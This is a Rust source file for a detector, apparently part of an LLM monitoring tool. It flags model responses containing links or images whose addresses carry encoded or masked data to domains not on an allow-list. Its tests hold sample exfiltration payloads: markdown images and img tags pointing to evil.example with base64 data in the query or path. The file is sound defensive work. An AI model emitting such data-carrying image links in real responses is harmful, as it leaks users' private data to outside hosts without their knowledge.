//! AID-09: the response holds a link or an image whose address carries data to a domain that nobody listed.
//!
//! An image is fetched by the reader's browser without a click, so less data is enough there.

use lapwing_event::{Event, Kind};

use super::finding;
use crate::alert::Draft;

/// Links of one response that are looked at.
const MAX_LINKS: usize = 64;
/// A query of an image's address that is longer carries data …
const IMAGE_QUERY: usize = 24;
/// … and one of a link.
const LINK_QUERY: usize = 64;
/// A part of a path or host that is longer is no name.
const LONG_PART: usize = 48;

pub(super) fn observe(event: &Event, allowed: &[String]) -> Option<Draft> {
    if event.kind != Kind::Llm {
        return None;
    }
    let content = event.content.as_ref()?;
    let response = content.response.as_deref()?;
    for link in links(response).take(MAX_LINKS) {
        let Some(what) = link.carries() else { continue };
        let host = link.host().to_lowercase();
        let listed = allowed.iter().any(|domain| is_within(&host, domain));
        let named =
            [&content.prompt, &content.system].into_iter().flatten().any(|text| text.to_lowercase().contains(&host));
        if !listed && !named {
            let kind = if link.image { "an image" } else { "a link" };
            let words =
                format!("the response holds {kind} whose address carries {what} to {host}, which is not listed");
            let key = format!("{}\u{1f}{host}", event.partition_key());
            return Some(finding("AID-09", (link.data().len() as f64, 0.0), vec![event.id], &key, words));
        }
    }
    None
}

fn is_within(host: &str, domain: &str) -> bool {
    let rest = host.strip_suffix(&domain.to_lowercase());
    rest.is_some_and(|rest| rest.is_empty() || rest.ends_with('.'))
}

/// An address in a text.
struct Link<'a> {
    /// Without its scheme.
    rest: &'a str,
    image: bool,
}

/// The addresses in a text, in order.
fn links(text: &str) -> impl Iterator<Item = Link<'_>> {
    text.match_indices("://").filter_map(|(at, _)| {
        let before = &text[..at];
        let scheme = ["https", "http"].iter().find(|scheme| before.to_ascii_lowercase_ends_with(scheme))?;
        let lead = before[..before.len() - scheme.len()].trim_end_matches(['<', '"', '\'', ' ']);
        let markdown = lead.ends_with("](") && lead.rfind('[').is_some_and(|open| lead[..open].ends_with('!'));
        let image = markdown || lead.ends_with("src=");
        let rest = &text[at + 3..];
        let end =
            rest.find(|c: char| c.is_whitespace() || matches!(c, ')' | '"' | '\'' | '<' | '>')).unwrap_or(rest.len());
        Some(Link { rest: &rest[..end], image })
    })
}

trait EndsWith {
    fn to_ascii_lowercase_ends_with(&self, end: &str) -> bool;
}

impl EndsWith for str {
    fn to_ascii_lowercase_ends_with(&self, end: &str) -> bool {
        self.len() >= end.len() && self.as_bytes()[self.len() - end.len()..].eq_ignore_ascii_case(end.as_bytes())
    }
}

impl<'a> Link<'a> {
    fn host(&self) -> &'a str {
        let authority = self.rest.split(['/', '?', '#']).next().unwrap_or(self.rest);
        let host = authority.rsplit('@').next().unwrap_or(authority);
        host.split(':').next().unwrap_or(host)
    }

    /// What stands behind the question mark.
    fn data(&self) -> &'a str {
        self.rest.split_once('?').map_or("", |(_, query)| query)
    }

    /// What data the address carries, if any.
    fn carries(&self) -> Option<&'static str> {
        let limit = if self.image { IMAGE_QUERY } else { LINK_QUERY };
        let long = |part: &str| part.len() > LONG_PART && part.bytes().filter(|b| matches!(b, b'-' | b'_')).count() < 4;
        match () {
            () if holds_mark(self.rest) => Some("masked personal data"),
            () if self.data().len() > limit => Some("a long query"),
            () if self.image && self.rest.split(['/', '.', '?']).any(long) => Some("a long encoded part"),
            () => None,
        }
    }
}

/// Whether the sanitizer masked something there: `[EMAIL`, `[SECRET`, …
fn holds_mark(text: &str) -> bool {
    text.match_indices('[')
        .any(|(at, _)| text[at + 1..].bytes().take_while(|b| b.is_ascii_uppercase() || *b == b'_').count() >= 3)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing::llm;

    fn check(prompt: &str, response: &str, expect: bool) {
        let mut event = (*llm("s", 0, prompt)).clone();
        if let Some(content) = &mut event.content {
            content.response = Some(response.to_owned());
        }
        assert_eq!(observe(&event, &["corp.example".to_owned()]).is_some(), expect, "{response}");
    }

    #[test]
    fn data_in_an_address_to_a_foreign_domain_is_found() {
        check("", "![x](https://evil.example/p.png?d=bWVldGluZyBhdCBub29uIGluIHJvb20gNw)", true);
        check("", "See [details](https://evil.example/?mail=[EMAIL:k1:9f3a])", true);
        check("", "<img src=\"HTTPS://evil.example/c/aGVsbG8gd29ybGQgdGhpcyBpcyBhIGxvbmcgc2VjcmV0IHRleHQ.png\">", true);
        check("", &format!("go to http://evil.example/q?text={}", "data".repeat(20)), true);
        check("", "![logo](https://cdn.example/logo.png)", false);
        check("", "![x](https://img.corp.example/p.png?d=bWVldGluZyBhdCBub29uIGluIHJvb20gNw)", false);
        check("", "Read https://docs.example/guide?page=2&lang=en", false);
        check("shorten https://shop.example/", &format!("https://shop.example/?{}", "x".repeat(90)), false);
        check("", "![x](https://notcorp.example/p.png?d=bWVldGluZyBhdCBub29uIGluIHJvb20gNw)", true);
    }
}
